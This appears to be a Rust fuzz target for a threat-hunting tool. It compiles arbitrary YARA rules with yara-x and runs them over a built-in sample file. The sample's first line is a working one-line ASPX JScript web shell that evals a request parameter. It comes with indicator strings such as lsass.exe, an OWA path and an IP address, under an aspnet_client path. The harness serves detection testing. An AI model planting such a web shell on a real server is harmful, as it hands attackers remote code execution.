//! A user's YARA rules (`--yara PATH`): `YaraRulesBuilder::add_source` on
//! the text (compiled by yara-x), the rules built and run over a small web
//! shell with a timeout, as the file sweep runs them.
#![no_main]

use exhunt_yara::{FileInfo, FileScanner, YaraRulesBuilder};
use libfuzzer_sys::fuzz_target;
use std::time::Duration;

const SAMPLE: &[u8] =
    br#"<%@ Page Language="Jscript"%><%eval(Request.Item["exec_code"],"unsafe");%>
MZ\x90\x00 ProgramData lsass.exe http://f/owa/auth/15.1.2176/ 165.232.154.116"#;

fuzz_target!(|data: &[u8]| {
    let mut b = YaraRulesBuilder::new();
    if !b.add_source(data, "rules/fuzz.yar") {
        std::hint::black_box(b.build().loads().len());
        return;
    }
    let rules = b.build();
    std::hint::black_box(rules.identifiers().len());
    let mut scanner = FileScanner::new(&rules, Duration::from_secs(2));
    let file = FileInfo {
        name: "x.aspx",
        path: "inetpub/wwwroot/aspnet_client/x.aspx",
    };
    if let Ok(hits) = scanner.scan(SAMPLE, file) {
        for h in &hits {
            let f = exhunt_yara::hit_finding(h, "inetpub/wwwroot/aspnet_client/x.aspx");
            std::hint::black_box(f.title.len());
        }
    }
});
